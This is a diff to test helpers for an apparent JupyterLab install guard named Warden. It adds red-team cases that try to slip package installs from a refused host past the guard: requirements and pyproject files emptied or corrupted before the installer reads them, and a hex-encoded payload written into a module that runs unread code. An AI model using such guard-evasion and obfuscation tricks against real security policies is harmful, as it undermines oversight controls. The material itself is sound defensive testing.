@@ -14,9 +14,10 @@ import shutil
 import subprocess
 import sys
 from pathlib import Path
-from typing import Dict, List, Optional
+from typing import Callable, Dict, List, Optional, Union
 
 from install_env import child_env
+from local_index import build_wheel
 from real_uv import real_uv
 
 from jupyterlab_warden.kernel.boot.launch_env import kernel_env
@@ -154,6 +155,70 @@ UV_LINE = "{uv} pip install -q --no-cache --target {target} warden-demo-pkg"
 
 KERNEL_POLICY = {"schema_version": 1, "revision": 3}
 
+# a requirements file that keeps an install local (``--no-index``, the wheel in w/) as long as
+# it is read as written: the red-team proofs empty it before the installer reads it
+LOCAL_REQS = "--no-index\n--find-links w\n"
+# the install reading r.txt, from the test index (a host the policy refuses) once r.txt is
+# empty; Kernel.cell fills {uv}/{target}/{index}, so a line around it doubles its own braces
+REQS_INSTALL = (
+    "{uv} pip install -q --no-config --no-cache --no-deps "
+    f"--python {sys.executable} --target {{target}} --index-url {{index}} -r r.txt warden-demo-pkg"
+)
+
+
+def local_reqs_cell(kernel: "Kernel", line: str, bash: bool = False, before: str = "") -> str:
+    """A cell that writes r.txt (``LOCAL_REQS``, its wheel built in w/), runs the statements
+    ``before``, then the shell ``line`` (holding ``REQS_INSTALL`` or its own install) through
+    os.system, or through bash (``bash``: subprocess, shell=True)."""
+    build_wheel(kernel.work / "w", "warden-demo-pkg")
+    run = f"os.system({line!r})"
+    if bash:
+        run = f"subprocess.run({line!r}, shell=True, executable='/bin/bash')"
+    return f"import os, subprocess\nopen('r.txt', 'w').write({LOCAL_REQS!r})\n{before}{run}\n"
+
+
+# a pyproject.toml whose [tool.uv.pip] keeps a uv install local (the wheel in w/) as long as uv
+# can parse it: the red-team proofs have a "reader" before the install append to it
+LOCAL_PYPROJECT = (
+    '[project]\nname = "nb"\nversion = "0"\n[tool.uv.pip]\nno-index = true\nfind-links = ["w"]\n'
+)
+# the uv install it keeps local, from the test index once uv drops those settings
+PYPROJECT_INSTALL = (
+    "{uv} pip install -q --no-cache --no-deps "
+    f"--python {sys.executable} --target {{target}} --index-url {{index}} warden-demo-pkg"
+)
+
+
+def local_pyproject_cell(kernel: "Kernel") -> str:
+    """The head of a cell that writes ``LOCAL_PYPROJECT`` (its wheel built in w/), for a
+    ``PYPROJECT_INSTALL`` after it."""
+    build_wheel(kernel.work / "w", "warden-demo-pkg")
+    return f"import os\nopen('pyproject.toml', 'w').write({LOCAL_PYPROJECT!r})\n"
+
+
+def self_writing_module(kernel: "Kernel") -> None:
+    """Writes s.py and mod.py (``X = 1``) in the kernel's folder: s.py, no installer in it as
+    Warden reads it, writes a payload (hex-encoded in it) to its stdout, then imports mod. The
+    payload runs uv installing warden-demo-pkg from the test index: a guardless Python whose
+    stdout is opened on mod.py runs code Warden never read (red team 56b R56b-5, -7, -8)."""
+    install = (
+        f"{real_uv()} pip install -q --no-config --no-cache --no-deps --python {sys.executable} "
+        f"--target {kernel.target} --index-url {kernel.index.simple} warden-demo-pkg"
+    )
+    payload = f"import os\nos.system({install!r})\n".encode().hex()
+    script = (
+        "import sys\n"
+        f"sys.stdout.write(bytes.fromhex({payload!r}).decode())\n"
+        "sys.stdout.flush()\n"
+        "import mod\n"
+    )
+    (kernel.work / "s.py").write_text(script)
+    (kernel.work / "mod.py").write_text("X = 1\n")
+
+
+def _made(code: Union[str, Callable[[], str]]) -> str:
+    return code() if callable(code) else code
+
 
 class Kernel(LaunchFolders):
     """A kernel with (``launched``) or without the lab's launch guard, in ``tmp/work``."""
@@ -206,19 +271,42 @@ class Kernel(LaunchFolders):
         assert self.index.requests == [] and not self.installed(name), result
         return result["refused"]
 
-    def kept_from_refused_host(self, code: str) -> dict:
-        """Installs without Warden (no refusal), fetching from the test index (a host the
-        policy refuses); with Warden nothing is fetched from it or installed, whether refused
-        or not: the guarded cell's result, for a test that asserts more of it."""
+    def installs_unguarded(self, code: Union[str, Callable[[], str]]) -> dict:
+        """The control that the attack works: without Warden ``code`` (or what it makes, made
+        afresh) runs unrefused, installs and fetches from the test index (a host the policy
+        refuses). The unguarded result."""
         self.reset()
-        plain = self.cell(code, launched=False)
-        # the attack works unguarded
+        plain = self.cell(_made(code), launched=False)
         assert plain["refused"] is None and self.installed() and self.index.requests, plain
+        return plain
+
+    def kept_out(self, code: Union[str, Callable[[], str]], *about) -> dict:
+        """With Warden ``code`` (or what it makes, made afresh) fetches nothing from the test
+        index and installs nothing, whether refused or not (``about``: shown when it did). The
+        guarded result, for a test that asserts more of it."""
         self.reset()
-        guarded = self.cell(code, launched=True)
+        guarded = self.cell(_made(code), launched=True)
         fetched = list(self.index.requests)
-        assert not fetched and not self.installed(), ("installed under Warden", fetched, guarded)
+        assert not fetched and not self.installed(), (
+            "installed under Warden", *about, fetched, guarded,
+        )  # fmt: skip
         return guarded
+
+    def kept_from_refused_host(self, code: Union[str, Callable[[], str]]) -> dict:
+        """Installs without Warden (``installs_unguarded``); with Warden nothing is fetched or
+        installed (``kept_out``): the guarded cell's result. ``code`` may be a function making
+        the cell afresh, for a cell whose files the unguarded run changed."""
+        self.installs_unguarded(code)
+        return self.kept_out(code)
+
+    def installs_locally(self, code: str) -> dict:
+        """The control that the line's own files keep it local: with Warden allowed, installed,
+        nothing fetched from the test index. Its result."""
+        self.reset()
+        result = self.cell(code, launched=True)
+        assert result["refused"] is None and self.installed(), result
+        assert not self.index.requests, result
+        return result
 
     def never_runs_with_warden(self, code: str, name="warden_demo_pkg") -> None:
         """Installs without Warden; with Warden nothing is refused, fetched or installed: the
@@ -308,6 +396,28 @@ def reading_refusal(argv: List[str], cwd, env: Optional[dict] = None) -> str:
 # the line's PATH with the kernel installation's bin first, where its own tools are (`jupyter`:
 # the reading trusts Jupyter's own tools by their real file, found on the line's PATH)
 KERNEL_BIN = {"PATH": os.path.dirname(os.path.abspath(sys.executable)) + ":/usr/bin:/bin"}
+
+
+def split_commands(line: str) -> list:
+    """The simple commands the kernel's split gives the shell ``line`` while the whole line is
+    read (``commands._split``'s entries: words at [0], own file writes at [1], the writes of
+    the compounds around it at [6])."""
+    from jupyterlab_warden.kernel.guard.installs import commands
+
+    found = []
+    real = commands._split
+
+    def spy(tokens):
+        split = real(tokens)
+        found.extend(split)
+        return split
+
+    commands._split = spy
+    try:
+        commands.shell_invocations(line, 0, {})
+    finally:
+        commands._split = real
+    return found
 
 
 def line_refusal(line: str, folder, env: dict) -> str:
